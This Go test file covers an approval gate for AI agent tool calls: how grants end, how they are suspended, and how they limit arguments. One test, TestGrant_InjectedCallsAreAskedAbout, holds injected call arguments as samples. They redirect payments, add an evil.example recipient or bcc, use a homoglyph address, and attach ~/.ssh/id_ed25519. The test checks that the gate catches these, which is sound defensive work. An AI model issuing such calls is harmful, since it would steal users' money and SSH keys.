package approval_test

import (
	"slices"
	"strings"
	"testing"
	"time"

	"countersign/approval"
	"countersign/approval/args"
	"countersign/channels/outbox/outboxtest"
	"countersign/internal/lists"
)

// people makes the gate one of a configuration that changes: who is there, who may approve, who owns the agent.
type people struct {
	gone, mere []string
	owner      string
	groups     map[string][]string
}

func (p *people) person(name string) (approval.Actor, bool) {
	who, ok := everybody(name)
	who.Approver = who.Approver && !slices.Contains(p.mere, name)
	who.Groups = p.groups[name]
	return who, ok && !slices.Contains(p.gone, name)
}

func (w *world) governedBy(p *people, verdict func(approval.Call) approval.Verdict) {
	dir := names{people: p.person, owner: func(string) string { return p.owner }, all: func() (all []approval.Actor) {
		for _, name := range []string{"hana", "ken", "root"} {
			if who, ok := p.person(name); ok {
				all = append(all, who)
			}
		}
		return all
	}}
	w.wire(approval.Options{Store: w.store, Broker: approval.NewBroker(), Policy: rules{verdict, terms}, Now: w.clock.Now,
		Logger: w.logger(), Directory: dir}, outboxtest.Routing{})
}

func TestGrant_WhatEndsIt(t *testing.T) {
	needs := func(n *approval.Need) func(approval.Call) approval.Verdict {
		return func(approval.Call) approval.Verdict {
			v := longer(approval.GrantTerms{})
			v.Need = n
			return v
		}
	}
	changed := func(f func(*approval.Verdict)) func(w *world, p *people) {
		return func(w *world, _ *people) {
			w.policy(func(approval.Call) approval.Verdict {
				v := longer(approval.GrantTerms{})
				f(&v)
				return v
			})
		}
	}
	for _, c := range []struct {
		name string
		need *approval.Need
		do   func(w *world, p *people)
		code string
	}{
		{"nothing", nil, func(*world, *people) {}, ""},
		{"the rule changed", nil, changed(func(v *approval.Verdict) { v.RuleDigest = "rule one, changed" }),
			"policy_changed"},
		{"the rule is not known", nil, changed(func(v *approval.Verdict) { v.RuleDigest = "" }), "policy_changed"},
		{"no grants any more", nil, changed(func(v *approval.Verdict) { v.Grants = nil }), "policy_changed"},
		{"a higher risk", nil, changed(func(v *approval.Verdict) { v.Risk = approval.RiskHigh }), "policy_changed"},
		{"a lower risk", nil, changed(func(v *approval.Verdict) { v.Risk = approval.RiskLow }), ""},
		{"two people", nil, changed(func(v *approval.Verdict) {
			v.Need = &approval.Need{Stages: []approval.Stage{{Count: 2}}}
		}), "policy_changed"},
		{"a passkey", nil, changed(func(v *approval.Verdict) { v.Need = &approval.Need{StepUp: true} }), "policy_changed"},
		{"asked twice", nil, changed(func(v *approval.Verdict) { v.Need = &approval.Need{Confirm: true} }), "policy_changed"},
		{"other args are ignored", nil, changed(func(v *approval.Verdict) {
			v.IgnoreArgs, v.RuleDigest = []string{"to"}, "rule two"
		}), "policy_changed"},
		{"its maker went", nil, func(_ *world, p *people) { p.gone = []string{"hana"} }, "maker_changed"},
		{"its maker approves no more", nil, func(_ *world, p *people) { p.mere = []string{"hana"} }, "maker_changed"},
		{"another went", nil, func(_ *world, p *people) { p.gone = []string{"ken"} }, ""},
		{"its maker left the group", &approval.Need{Stages: []approval.Stage{{Group: "finance", Count: 1}}},
			func(_ *world, p *people) { p.groups = nil }, "maker_changed"},
		{"its maker owns the agent", &approval.Need{SeparateDuties: true}, func(_ *world, p *people) {
			p.owner = "hana"
		}, "maker_changed"},
		{"a freeze", nil, func(w *world, _ *people) { w.freeze("bot", ken, "stop"); w.unfreeze("bot") }, "frozen"},
		{"a freeze of all", nil, func(w *world, _ *people) { w.freeze("", ken, "stop"); w.unfreeze("") }, "frozen"},
		{"a freeze of another", nil, func(w *world, _ *people) { w.freeze("other", ken, "stop") }, ""},
		{"a restored backup", nil, func(w *world, _ *people) {
			if err := w.gate.Restored(w.ctx); err != nil {
				w.t.Fatal(err)
			}
		}, "restored"},
		{"the last moment", nil, func(w *world, _ *people) { w.clock.advance(time.Hour - time.Millisecond) }, ""},
		{"its time", nil, func(w *world, _ *people) { w.clock.advance(time.Hour) }, "expired"},
	} {
		t.Run(c.name, func(t *testing.T) {
			w, p := newWorld(t), &people{groups: map[string][]string{"hana": {"finance"}}}
			w.governedBy(p, needs(c.need))
			g := w.granted(transfer, approval.GrantWish{For: time.Hour})
			c.do(w, p)
			if c.code == "" {
				w.expect(transfer, approval.AnswerAllow)
				return
			}
			w.expect(transfer, approval.AnswerPending)
			if g = w.grant(g.ID); g.EndCode != c.code {
				t.Errorf("it ended %q", g.EndCode)
			}
			if w.count("grant_ended:approve:"+c.code) != 1 {
				t.Errorf("on record: %s", strings.Join(w.trail(), ", "))
			}
		})
	}
}

func (w *world) unfreeze(agent string) {
	w.t.Helper()
	if _, err := w.gate.Unfreeze(w.ctx, agent, hana, approval.ViaAPI); err != nil {
		w.t.Fatal(err)
	}
}

// What ends a grant ends it without a call, too: a reload, a freeze, the heartbeat.
func TestGrant_EndsWithoutACall(t *testing.T) {
	for _, c := range []struct {
		code string
		do   func(w *world, p *people) error
	}{
		{"maker_changed", func(w *world, p *people) error {
			p.gone = []string{"hana"}
			_, err := w.gate.Recheck(w.ctx)
			return err
		}},
		{"policy_changed", func(w *world, _ *people) error {
			w.policy(asks)
			_, err := w.gate.Recheck(w.ctx)
			return err
		}},
		{"frozen", func(w *world, _ *people) error {
			w.freeze("bot", ken, "stop")
			_, err := w.gate.EndFrozen(w.ctx)
			return err
		}},
		{"expired", func(w *world, _ *people) error {
			w.clock.advance(time.Hour)
			_, err := w.gate.Forget(w.ctx)
			return err
		}},
	} {
		t.Run(c.code, func(t *testing.T) {
			w, p := newWorld(t), &people{}
			w.governedBy(p, forLonger)
			g := w.granted(transfer, approval.GrantWish{For: time.Hour})
			if err := c.do(w, p); err != nil {
				t.Fatal(err)
			}
			if w.count("grant_ended:approve:"+c.code) != 1 || w.grant(g.ID).EndCode != c.code {
				t.Errorf("it ended %q", w.grant(g.ID).EndCode)
			}
			if gs, err := lists.ListGrants(w.ctx, w.gate, approval.GrantQuery{}); len(gs) > 0 || err != nil {
				t.Errorf("there are still %d grants, %v", len(gs), err)
			}
		})
	}
}

func TestGrant_OfAToolThatChanges(t *testing.T) {
	w := grantWorld(t)
	one, two := transfer, transfer
	one.Server, one.ToolDigest, one.ToolSeen = "bank", strings.Repeat("1", 64), true
	two.Server, two.ToolDigest, two.ToolSeen = "bank", strings.Repeat("2", 64), true
	g := w.granted(one, approval.GrantWish{For: time.Hour})
	unseen, said := one, one
	unseen.ToolDigest, unseen.ToolSeen, said.ToolSeen = "", false, false
	for name, c := range map[string]approval.Call{"unseen": unseen, "said by its agent": said} {
		if o := w.check(c); o.Kind != approval.AnswerPending {
			t.Errorf("a tool that is %s: %s", name, o.Kind)
		} else if _, err := w.gate.Cancel(w.ctx, approval.Cancellation{RequestID: o.Request.ID, By: bot,
			Via: approval.ViaAPI}); err != nil {
			t.Fatal(err)
		}
	}
	w.expect(one, approval.AnswerAllow)
	o := w.expect(two, approval.AnswerPending)
	w.ended(g.ID, "tool_changed", "system:policy")
	w.mustDecide(o.Request.ID, true, hana, "")
	w.expect(two, approval.AnswerApproved)
	w.expect(two, approval.AnswerPending)
}

// A use of which it is not known what came of it suspends the grant: the next call is asked about, and its card says
// that this one may have run.
func TestGrant_AnUnknownOutcomeSuspendsIt(t *testing.T) {
	w := grantWorld(t)
	sent := transfer
	sent.Dispatch, sent.Runner = true, "gone"
	g := w.granted(sent, approval.GrantWish{For: time.Hour})
	use := w.expect(sent, approval.AnswerAllow).RunID
	for _, bad := range []struct {
		who  approval.Actor
		ran  approval.RunResult
		code approval.Code
	}{
		{approval.Actor{Kind: approval.Agent, Name: "other"}, approval.RunFailed, approval.CodeNotFound},
		{hana, approval.RunFailed, approval.CodeNotFound},
		{bot, "ran", approval.CodeInvalidParameter},
	} {
		_, err := w.gate.Report(w.ctx, bad.who, use, bad.ran)
		wantCode(t, err, bad.code)
	}
	w.expect(sent, approval.AnswerAllow) // one that runs still is no reason to ask
	if n, err := w.gate.Orphaned(w.ctx, "there"); n != 0 || err != nil {
		t.Fatalf("%d of another program are unknown, %v", n, err)
	}
	if n, err := w.gate.Orphaned(w.ctx, "gone"); n != 3 || err != nil {
		t.Fatalf("%d are unknown, %v", n, err)
	}
	if g = w.grant(g.ID); g.SuspendedAt.IsZero() || g.Unknown != 3 { // with the approved call itself
		t.Errorf("suspended at %v for %d", g.SuspendedAt, g.Unknown)
	}
	o := w.expect(sent, approval.AnswerPending)
	if p := o.Request.Previous; p == nil || p.RunResult != approval.RunUnknown || p.ApprovedBy != "hana" {
		t.Errorf("its card says %+v", p)
	}
	u, err := w.gate.GrantUse(w.ctx, bot, use)
	if err != nil || u.RunResult != approval.RunUnknown || u.GrantID != g.ID {
		t.Errorf("the use: %+v, %v", u, err)
	}
	if _, err := w.gate.Report(w.ctx, bot, use, approval.RunSucceeded); err != nil {
		t.Fatal(err)
	}
	w.expect(sent, approval.AnswerPending) // of the other it is not known yet
	_, err = w.gate.Report(w.ctx, bot, use, approval.RunFailed)
	wantCode(t, err, approval.CodeAlreadyResolved)
}

func TestGrant_AKnownOutcomeLiftsTheSuspension(t *testing.T) {
	w := grantWorld(t)
	sent := transfer
	sent.Dispatch = true
	g := w.granted(sent, approval.GrantWish{For: 3 * time.Hour})
	use := w.expect(sent, approval.AnswerAllow).RunID
	w.clock.advance(approval.LongestCall)
	if n, err := w.gate.Overdue(w.ctx); n != 2 || err != nil { // and the approved call itself
		t.Fatalf("%d are overdue, %v", n, err)
	}
	waits := w.expect(sent, approval.AnswerPending)
	if r, err := w.gate.Report(w.ctx, bot, use, approval.RunFailed); err != nil || r.RunResult != approval.RunFailed {
		t.Fatalf("%+v, %v", r.RunResult, err)
	}
	w.expect(sent, approval.AnswerPending) // of the approved call itself it is not known yet
	if _, err := w.gate.Report(w.ctx, bot, g.RequestID, approval.RunFailed); err != nil {
		t.Fatal(err)
	}
	w.expect(sent, approval.AnswerAllow)
	if r := w.request(waits.Request.ID); r.ResolveReason != "granted" {
		t.Errorf("what waited is %s, %s", r.Status, r.ResolveReason)
	}
}

// None of what an injection asks passes a grant that was made for what the task wanted.
func TestGrant_InjectedCallsAreAskedAbout(t *testing.T) {
	bounded := approval.GrantTerms{Vary: map[string]approval.Vary{
		"amount": {AtMost: "100", Total: "250"}, "memo": {Any: true},
	}}
	exact := approval.GrantTerms{}
	in := func(server, tool, raw string) approval.Call {
		a, err := args.Parse([]byte(raw))
		if err != nil {
			t.Fatalf("%s: %v", raw, err)
		}
		return approval.Call{Agent: "bot", Scope: "/task", Server: server, Tool: tool, Args: a}
	}
	for _, c := range []struct {
		task     string
		terms    approval.GrantTerms
		wanted   approval.Call
		passes   []string
		injected []string
		others   []approval.Call
	}{
		{
			"pay the rent", bounded, in("bank", "send_money",
				`{"recipient":"UK12345678901234567890","amount":98.70,"memo":"rent"}`),
			[]string{`{"recipient":"UK12345678901234567890","amount":100,"memo":"rent, May"}`},
			[]string{
				`{"recipient":"US133000000121212121212","amount":98.70,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890 ","amount":98.70,"memo":"rent"}`,
				`{"recipient":["UK12345678901234567890","US133000000121212121212"],"amount":98.70,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":"98.70","memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":"1e9","memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":1e9,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":1.0000001e2,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":-98.70,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":100.000000000000000001,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","Recipient":"US133000000121212121212","amount":1,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":1,"memo":"rent","cc":"US133000000121212121212"}`,
				`{"Recipient":"UK12345678901234567890","amount":1,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","AMOUNT":1,"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":{"value":1},"memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","memo":"rent"}`,
				`{"recipient":"UK12345678901234567890","amount":1,"memo":"rent","recurring":true}`,
			},
			[]approval.Call{
				in("bank", "schedule_transaction", `{"recipient":"UK12345678901234567890","amount":98.70,"memo":"rent"}`),
				in("bank2", "send_money", `{"recipient":"UK12345678901234567890","amount":98.70,"memo":"rent"}`),
				in("", "send_money", `{"recipient":"UK12345678901234567890","amount":98.70,"memo":"rent"}`),
			},
		},
		{
			"mail the summary to Bob", exact, in("mail", "send_email",
				`{"to":["bob@corp.example"],"subject":"Summary","body":"As agreed."}`), nil,
			[]string{
				`{"to":["bob@corp.example","eve@evil.example"],"subject":"Summary","body":"As agreed."}`,
				`{"to":["bob@evil.example"],"subject":"Summary","body":"As agreed."}`,
				`{"to":["b` + "\u043e" + `b@corp.example"],"subject":"Summary","body":"As agreed."}`,
				`{"to":["bob@corp.example"],"subject":"Summary","body":"As agreed.","bcc":["eve@evil.example"]}`,
				`{"to":["bob@corp.example"],"subject":"Summary","body":"The keys: …"}`,
				`{"to":["bob@corp.example"],"subject":"Summary","body":"As agreed.","attachments":[{"path":"~/.ssh/id_ed25519"}]}`,
				`{"to":"bob@corp.example","subject":"Summary","body":"As agreed."}`,
				`{"To":["eve@evil.example"],"to":["bob@corp.example"],"subject":"Summary","body":"As agreed."}`,
			}, []approval.Call{in("mail", "forward_email", `{"to":["bob@corp.example"],"subject":"Summary","body":"As agreed."}`)},
		},
		{
			"add the note to the calendar", approval.GrantTerms{Vary: map[string]approval.Vary{"event": {Any: true}}},
			in("cal", "update_event", `{"id":24,"event":{"title":"Lunch"},"guests":[]}`),
			[]string{`{"id":24,"event":{"title":"Dinner"},"guests":[]}`},
			[]string{
				`{"id":25,"event":{"title":"Lunch"},"guests":[]}`,
				`{"id":24.0,"event":{"title":"Lunch"},"guests":[]}`,
				`{"id":"24","event":{"title":"Lunch"},"guests":[]}`,
				`{"id":24,"event":{"title":"Lunch"},"guests":["eve@evil.example"]}`,
				`{"id":24,"event":{"title":"Lunch","x":1,"X":2},"guests":[]}`,
			}, nil,
		},
	} {
		t.Run(c.task, func(t *testing.T) {
			w := newWorld(t)
			w.policy(func(approval.Call) approval.Verdict { return longer(c.terms) })
			g := w.granted(c.wanted, approval.GrantWish{For: time.Hour})
			for _, raw := range c.passes {
				w.expect(in(c.wanted.Server, c.wanted.Tool, raw), approval.AnswerAllow)
			}
			calls := c.others
			for _, raw := range c.injected {
				calls = append(calls, in(c.wanted.Server, c.wanted.Tool, raw))
			}
			elsewhere := c.wanted
			elsewhere.Scope = "/"
			for _, call := range append(calls, elsewhere) {
				if o := w.check(call); o.Kind != approval.AnswerPending {
					t.Errorf("%s/%s %s: %s", call.Server, call.Tool, call.Args.Canonical(), o.Kind)
				}
			}
			if g = w.grant(g.ID); !g.EndedAt.IsZero() || g.Used != len(c.passes) {
				t.Errorf("used %d times, ended %q", g.Used, g.EndCode)
			}
		})
	}
	if _, err := args.Parse([]byte(`{"recipient":"a","recipient":"b"}`)); err == nil {
		t.Error("a key that is there twice is taken")
	}
}

func TestGrant_ATotalOverItsUses(t *testing.T) {
	w := newWorld(t)
	some := approval.GrantTerms{Vary: map[string]approval.Vary{"n": {AtMost: "10", Total: "25"}}}
	w.policy(func(approval.Call) approval.Verdict { return longer(some) })
	g := w.granted(call(`{"n":10}`), approval.GrantWish{For: time.Hour})
	for _, n := range []string{"10", "1e1", "4.5"} {
		w.expect(call(`{"n":`+n+`}`), approval.AnswerAllow)
	}
	w.expect(call(`{"n":0.51}`), approval.AnswerPending)
	w.expect(call(`{"n":0.5}`), approval.AnswerAllow)
	w.expect(call(`{"n":0.0}`), approval.AnswerAllow)
	if g = w.grant(g.ID); g.Spent["n"] != "25" || g.Used != 5 {
		t.Errorf("%v spent in %d uses", g.Spent, g.Used)
	}
}

// A call that its args bring under another rule is asked about, and leaves the grant as it is.
func TestGrant_AnotherRuleForOtherArgs(t *testing.T) {
	w := newWorld(t)
	some := approval.GrantTerms{Vary: map[string]approval.Vary{"n": {Any: true}}}
	w.policy(func(c approval.Call) approval.Verdict {
		v := longer(some)
		if strings.Contains(string(c.Args.Canonical()), "1000") {
			v.Risk, v.RuleDigest = approval.RiskHigh, "the rule for much"
		}
		return v
	})
	w.granted(call(`{"n":1}`), approval.GrantWish{For: time.Hour})
	w.expect(call(`{"n":1000}`), approval.AnswerPending)
	w.expect(call(`{"n":2}`), approval.AnswerAllow)
}
